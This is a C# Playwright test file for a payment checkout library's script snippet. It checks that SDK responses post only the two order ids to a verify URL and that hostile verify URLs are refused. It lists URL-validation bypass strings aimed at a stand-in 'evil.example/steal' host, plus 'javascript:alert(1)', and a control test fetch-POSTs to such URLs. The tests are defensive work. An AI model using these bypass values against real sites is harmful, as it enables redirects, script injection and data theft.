using System.Collections.Concurrent;
using System.Text.Json;
using System.Text.Json.Nodes;
using Iamport.Danal.Checkout;
using Microsoft.Playwright;

namespace Iamport.Danal.BrowserTests;

/// <summary>The library's checkout snippet in headless Chromium against a stubbed <c>IMP</c>: which SDK answers reach the
/// verify URL, and that no hostile verify URL ever gets a snippet onto the page. Every request the page makes is routed
/// through the test (nothing reaches a network), so a request to another origin is seen, recorded and refused.</summary>
[TestFixture]
[NonParallelizable]
public sealed class CheckoutSnippetBrowserTests : ChromiumFixture
{
    private const string Origin = "http://shop.test";
    private const string VerifyPath = "/checkout/verify";
    private const float TimeoutMs = 15_000;

    private static readonly CheckoutFactory Checkout = new(new IamportOptions { MerchantCode = "imp12345678", ChannelKey = "channel-key-1" });


    public static IEnumerable<TestCaseData> SdkAnswers()
    {
        static TestCaseData Case(string name, string answer, bool posts) => new TestCaseData(answer, posts).SetArgDisplayNames(name);

        // The current v1/iamport.js shape and the legacy ones: with an imp_uid the server decides, whatever the flags say.
        yield return Case("imp_uid and error_code", """{ "imp_uid": "imp_100000000001", "merchant_uid": "order_1", "error_code": "F400", "error_msg": "결제 실패" }""", posts: true);
        yield return Case("imp_uid and success false", """{ "imp_uid": "imp_100000000001", "merchant_uid": "order_1", "success": false }""", posts: true);
        yield return Case("imp_uid only", """{ "imp_uid": "imp_100000000001" }""", posts: true);
        yield return Case("imp_uid and imp_success false", """{ "imp_uid": "imp_100000000001", "merchant_uid": "order_1", "imp_success": false }""", posts: true);
        yield return Case("error_code without imp_uid", """{ "merchant_uid": "order_1", "error_code": "F400", "error_msg": "사용자가 결제를 취소하셨습니다" }""", posts: false);
        yield return Case("imp_uid null and success true", """{ "imp_uid": null, "merchant_uid": "order_1", "success": true }""", posts: false);
    }

    [TestCaseSource(nameof(SdkAnswers))]
    public async Task Snippet_SdkAnswer_PostsToVerifyUrlExactlyWhenImpUidCame(string answer, bool posts)
    {
        RequestPayParams param = Checkout.IssueKeyOnly("cust_1", "카드 등록").WithMerchantUid("order_1").WithBuyerPhone("010-1234-5678").Build();
        await using var run = await PageRun.StartAsync(Browser, Checkout.RenderScript(param, VerifyPath, sdkUrl: new Uri(Origin + "/stub/iamport.js")), answer);

        JsonArray events = await run.EventsAsync();

        using (Assert.EnterMultipleScope())
        {
            Assert.That(await run.Page.EvaluateAsync<string>("JSON.stringify(window.__inits)"), Is.EqualTo("""["imp12345678"]"""));
            Assert.That(await run.Page.EvaluateAsync<string>("window.__param.channelKey"), Is.EqualTo("channel-key-1"));
            Assert.That(run.OtherOrigins, Is.Empty, "no request leaves the shop's origin");
            if (posts)
            {
                Assert.That(run.VerifyPosts, Has.Count.EqualTo(1));
                Assert.That(run.VerifyPosts.Single(), Is.EqualTo("""{"imp_uid":"imp_100000000001","merchant_uid":"order_1"}"""), "only the two ids");
                Assert.That((string?)events[0]![0], Is.EqualTo(CheckoutScript.VerifiedEvent));
                Assert.That(events[0]![1]!.ToJsonString(), Is.EqualTo("""{"verified":true}"""), "the server's answer decides");
            }
            else
            {
                Assert.That(run.VerifyPosts, Is.Empty, "nothing to verify without an imp_uid");
                Assert.That((string?)events[0]![0], Is.EqualTo(CheckoutScript.FailedEvent));
                Assert.That((string?)events[0]![1]!["merchant_uid"], Is.EqualTo("order_1"));
            }
        }
    }

    public static IEnumerable<TestCaseData> HostileVerifyUrls()
    {
        static TestCaseData Case(string url, string name) => new TestCaseData(url).SetArgDisplayNames(name);

        yield return Case("/\t/evil.example/steal", "tab after slash");
        yield return Case("/\n/evil.example/steal", "LF after slash");
        yield return Case("/\r/evil.example/steal", "CR after slash");
        yield return Case("//evil.example/steal", "protocol-relative");
        yield return Case("/\\evil.example/steal", "slash backslash");
        yield return Case("\\\\evil.example/steal", "backslashes");
        yield return Case("/a\\b", "backslash inside");
        yield return Case(" //evil.example/steal", "leading space");
        yield return Case("javascript:alert(1)", "javascript");
        yield return Case("https:evil.example/steal", "no slash after scheme");
        yield return Case("https://shop.test@evil.example/steal", "user info");
    }

    [TestCaseSource(nameof(HostileVerifyUrls))]
    public async Task Snippet_HostileVerifyUrl_NeverRendersAndNothingLeaves(string verifyUrl)
    {
        RequestPayParams param = Checkout.IssueKeyOnly("cust_1", "카드 등록").WithMerchantUid("order_1").WithBuyerPhone("010").Build();

        // What a shop page does with the library: render, or fail the request before any HTML exists.
        string? snippet;
        try
        {
            snippet = Checkout.RenderScript(param, verifyUrl, sdkUrl: new Uri(Origin + "/stub/iamport.js"));
        }
        catch (ArgumentException)
        {
            snippet = null;
        }

        await using var run = await PageRun.StartAsync(Browser, snippet ?? "", """{ "imp_uid": "imp_100000000001", "merchant_uid": "order_1" }""");
        await run.Page.WaitForLoadStateAsync(LoadState.NetworkIdle);

        using (Assert.EnterMultipleScope())
        {
            Assert.That(snippet, Is.Null, "the library refuses to render it");
            Assert.That(await run.Page.EvaluateAsync<bool>("window.__param === undefined"), Is.True, "the window never opened");
            Assert.That(run.OtherOrigins, Is.Empty);
            Assert.That(run.VerifyPosts, Is.Empty);
        }
    }

    [TestCase("/\t/evil.example/steal")]
    [TestCase("//evil.example/steal")]
    [TestCase("/\\evil.example/steal")]
    public async Task Control_FetchOfHostileUrl_WouldLeaveTheOrigin(string verifyUrl)
    {
        // Why the rule exists, and proof the detector sees it: the same POST the snippet makes, with the raw URL.
        string page = "<script>fetch(" + JsonSerializer.Serialize(verifyUrl) + ", { method: \"POST\", body: \"{}\" }).catch(function () {});</script>";
        await using var run = await PageRun.StartAsync(Browser, page, "{}");

        await run.WaitForOtherOriginAsync();

        Assert.That(run.OtherOrigins, Has.Some.StartsWith("http://evil.example/"));
    }

    /// <summary>One page at <see cref="Origin"/> with every request routed through the test.</summary>
    private sealed class PageRun : IAsyncDisposable
    {
        private readonly IBrowserContext _context;

        private PageRun(IBrowserContext context, IPage page) => (_context, Page) = (context, page);

        public IPage Page { get; }

        public ConcurrentQueue<string> VerifyPosts { get; } = new();

        public ConcurrentQueue<string> OtherOrigins { get; } = new();

        public static async Task<PageRun> StartAsync(IBrowser browser, string bodyHtml, string sdkAnswer)
        {
            IBrowserContext context = await browser.NewContextAsync();
            context.SetDefaultTimeout(TimeoutMs);
            var run = new PageRun(context, await context.NewPageAsync());
            string stub = "window.IMP = { init: function (code) { (window.__inits = window.__inits || []).push(code); },"
                + " request_pay: function (param, callback) { window.__param = param; setTimeout(function () { callback(" + sdkAnswer + "); }, 0); } };";
            string html = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body><script>window.__events = [];"
                + " ['iamport:verified', 'iamport:failed'].forEach(function (n) { document.addEventListener(n, function (e) { window.__events.push([n, e.detail]); }); });</script>\n"
                + bodyHtml + "</body></html>";
            await context.RouteAsync("**/*", async route =>
            {
                IRequest request = route.Request;
                var url = new Uri(request.Url);
                if (url.GetLeftPart(UriPartial.Authority) != Origin)
                {
                    run.OtherOrigins.Enqueue(request.Url);
                    await route.AbortAsync();
                }
                else if (url.AbsolutePath == "/checkout")
                {
                    await route.FulfillAsync(new RouteFulfillOptions { Status = 200, ContentType = "text/html; charset=utf-8", Body = html });
                }
                else if (url.AbsolutePath == "/stub/iamport.js")
                {
                    await route.FulfillAsync(new RouteFulfillOptions { Status = 200, ContentType = "text/javascript", Body = stub });
                }
                else if (url.AbsolutePath == VerifyPath && request.Method == "POST")
                {
                    run.VerifyPosts.Enqueue(request.PostData ?? "");
                    await route.FulfillAsync(new RouteFulfillOptions { Status = 200, ContentType = "application/json", Body = """{"verified":true}""" });
                }
                else
                {
                    await route.FulfillAsync(new RouteFulfillOptions { Status = 404, Body = "" });
                }
            });
            await run.Page.GotoAsync(Origin + "/checkout");
            return run;
        }

        public async Task<JsonArray> EventsAsync()
        {
            await Page.WaitForFunctionAsync("() => window.__events.length > 0", null, new PageWaitForFunctionOptions { Timeout = TimeoutMs });
            return JsonNode.Parse(await Page.EvaluateAsync<string>("JSON.stringify(window.__events)"))!.AsArray();
        }

        public async Task WaitForOtherOriginAsync()
        {
            for (int i = 0; i < 150 && OtherOrigins.IsEmpty; i++)
            {
                await Page.WaitForTimeoutAsync(100);
            }
        }

        public async ValueTask DisposeAsync() => await _context.DisposeAsync();
    }
}
